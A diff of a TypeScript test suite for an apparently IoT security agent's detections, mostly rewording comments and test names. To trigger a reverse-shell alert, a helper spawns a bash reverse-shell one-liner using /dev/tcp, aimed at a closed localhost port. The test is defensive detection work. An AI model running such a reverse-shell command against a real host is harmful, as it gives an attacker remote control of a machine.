@@ -5,15 +5,15 @@ import { type AddressInfo, createServer } from 'node:net';
 import { seconds } from '../../src/core/base/duration.ts';
 import { DEVICE, MODULE, STEADY, TestBed } from './test-bed.ts';
 
-/** Closed: nothing listens there, and the kernel refuses the connection. */
+/** A closed port: the kernel refuses the connection. */
 const CLOSED = '127.0.0.1/1';
-/** How many alerts of level high the reported properties have; NaN without any number. */
+/** Number of alerts of level high in the reported properties; NaN if they have no number. */
 const reportedHigh = (status: unknown): number =>
   Number((status as { detections?: { alerts?: { high?: number } } } | undefined)?.detections?.alerts?.high);
 
 const PAUSE = { duration: 'PT1H', reason: 'An update' };
 
-describe('Detections of an agent', function () {
+describe('The detections', function () {
   this.timeout(120_000);
   let bed: TestBed;
 
@@ -24,13 +24,13 @@ describe('Detections of an agent', function () {
   });
   afterEach(() => bed.close());
 
-  /** As an attacker would, but to a closed port. It stays for a while: without audit, starts are found by polling. */
+  /** Starts a reverse shell to a closed port. It runs for a while: without audit, starts are found by polling. */
   const reverseShell = async (marker: string) => {
     const script = `: ${marker}; bash -i >& /dev/tcp/${CLOSED} 0>&1; sleep 2; :`;
     const child = spawn('/bin/bash', ['-c', script], { stdio: 'ignore' });
     await once(child, 'exit');
   };
-  /** Other tests on this machine run reverse shells, too. */
+  /** Other tests on this machine also run reverse shells. */
   const alerts = (marker: string) =>
     bed
       .elements('SecurityAlert')
@@ -39,12 +39,12 @@ describe('Detections of an agent', function () {
           AlertType === 'IoT_ReverseShell' && String(CommandLine).includes(`: ${marker};`),
       );
 
-  it('raise an alert with the evidence, also while the events that they judge are Off', async () => {
+  it('raise an alert with its evidence even if the events that they evaluate are Off', async () => {
     const agent = bed.startAgent();
     await agent.waitForStatus(
       ({ hub, configuration }) => hub.state === 'connected' && configuration.source === 'desired',
     );
-    // Whether the agent reads starts already is not in the status of a collector that is off.
+    // The status of a collector that is off does not show whether the agent already reads starts.
     const marker = `one-${process.pid}`;
     const tried = setInterval(() => void reverseShell(marker), 1_000);
     try {
@@ -66,12 +66,12 @@ describe('Detections of an agent', function () {
     assert.match(String(configuration.warnings.detectionsDisabledRules), /did you mean "IoT_ReverseShell"/);
     assert.equal(detections?.state, 'on', JSON.stringify(detections));
     assert.ok((detections?.alerts.high ?? 0) >= 1);
-    // Another program of this machine may have raised one since: a compiler of other tests.
+    // Another program of this machine, such as a compiler, may have raised an alert since.
     const last = detections?.last?.type ?? assert.fail();
     await bed.waitForEvents(() => bed.elements('SecurityAlert').some(({ AlertType }) => AlertType === last));
   });
 
-  it('are in the reported properties with the first alert, long before the next figures', async () => {
+  it('update the reported properties at the first alert, long before the next counters', async () => {
     bed.desire({ ...STEADY, highPriorityMessageFrequency: { value: 'PT1H' } });
     const agent = bed.startAgent();
     await agent.waitForStatus(
@@ -88,7 +88,7 @@ describe('Detections of an agent', function () {
     }
   });
 
-  it('raise an alert for a port opened between two snapshots, also while ListeningPorts is Off and collecting is paused', async () => {
+  it('raise an alert for a port opened between two snapshots even if ListeningPorts is Off and collection is paused', async () => {
     const off = { ...STEADY, snapshotFrequency: { value: 'PT13H' }, eventPriorityListeningPorts: { value: 'Off' } };
     bed.desire(off);
     const agent = bed.startAgent();
